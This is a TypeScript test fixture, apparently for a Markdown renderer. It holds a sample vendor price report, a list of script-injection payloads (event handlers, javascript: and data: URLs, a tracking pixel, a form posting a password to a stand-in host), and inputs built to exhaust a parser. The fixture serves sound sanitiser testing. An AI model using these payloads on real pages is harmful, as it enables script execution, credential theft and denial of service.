/** A report as a research agent writes one. */
export const report = `# Managed Postgres, compared

Vendor **B** is cheapest below 500 GB; above that, vendor **A** with a *yearly* plan. The numbers are those of [the price list](https://vendor-b.example/pricing) of 12 January.

## Prices

| Vendor | Storage, per GB and month | Egress, per GB | Yearly discount | Support plan | Regions |
| --- | ---: | ---: | ---: | --- | --- |
| A | 0.115 | 0.09 | 22 % | included, answers within one day | eu-west, eu-central, us-east |
| B | 0.098 | 0.12 | 10 % | 29 a month, answers within four hours | eu-west |
| C | 0.121 | 0.09 | ~~15 %~~ none | 10 % of the bill | eu-west, us-east, us-west, ap-south |

## What to do

1. Start with \`db.small\` at vendor B.
2. Move when one of these is true:
   - the data is larger than 500 GB;
   - egress is more than a third of the bill.
3. Do not sign for a year before that.

- [x] Prices checked
- [ ] Contract read

> Vendor C bills egress twice: once when it leaves the replica, once when it leaves the region.

### How it was computed

\`\`\`ts
const monthly = (gigabytes: number, vendor: Vendor): number => gigabytes * vendor.storage + egressOf(gigabytes) * vendor.egress - vendor.discount
\`\`\`

---

Vendor A was asked for the price of a second replica; the answer is outstanding.
`

/** Each line tries something; what a reader should still read is the word "readable" in it. */
export const attacks: readonly string[] = [
  '<script>window.executed = "script"</script> readable 1',
  '<img src=x onerror="window.executed = \'img\'"> readable 2',
  '<svg/onload="window.executed=\'svg\'"> readable 3',
  '<iframe src="https://tracker.example/frame"></iframe> readable 4',
  '<a href="javascript:window.executed=\'a\'" onclick="window.executed=\'click\'">readable 5</a>',
  '[readable 6](javascript:window.executed=1)',
  '[readable 7](javascript&colon;window.executed=1)',
  '[readable 8](JaVaScRiPt:window.executed=1)',
  '[readable 9](java&#x0A;script:window.executed=1)',
  '[readable 10](data:text/html,<script>window.executed=1</script>)',
  '[readable 11](vbscript:window.executed=1)',
  '[readable 12][ref]\n\n[ref]: javascript:window.executed=1',
  '<javascript:window.executed=1> readable 13',
  '![readable 14](https://tracker.example/pixel.png?who=reader)',
  '![readable 15](data:image/svg+xml,<svg onload="window.executed=1">)',
  '![readable 16](javascript:window.executed=1)',
  '[![readable 17](https://tracker.example/badge.svg)](javascript:window.executed=1)',
  '[readable 18](/logout) and [readable 19](//tracker.example/logout)',
  '<style>* { display: none }</style> readable 20',
  '<form action="https://tracker.example/steal"><input name="password"><button>readable 21</button></form>',
  '<details open ontoggle="window.executed=1">readable 22</details>',
  '<math><mtext><img src=x onerror="window.executed=1"></mtext></math> readable 23',
  '<div>\n\n**readable 24**\n\n</div>',
  'readable 25 <!-- a comment --> ]]> <![CDATA[ x ]]>',
]

/** What takes a parser minutes, or its whole stack. */
export const heavy: Readonly<Record<string, string>> = {
  'quotes in quotes': `${'> '.repeat(5_000)}readable`,
  'lists in lists': `${'- '.repeat(5_000)}readable`,
  'lists by indent': Array.from({ length: 400 }, (_, depth) => `${' '.repeat(depth * 2)}- readable`).join('\n'),
  stars: `${'*'.repeat(20_000)}readable${'*'.repeat(20_000)}`,
  'pairs of stars': `${'**a '.repeat(5_000)}readable${' a**'.repeat(5_000)}`,
  brackets: `${'['.repeat(19_000)}readable`,
  'a table of 100,000 characters': `| readable | b |\n| --- | --- |\n${'| some text | 12,300 |\n'.repeat(4_600)}`,
}
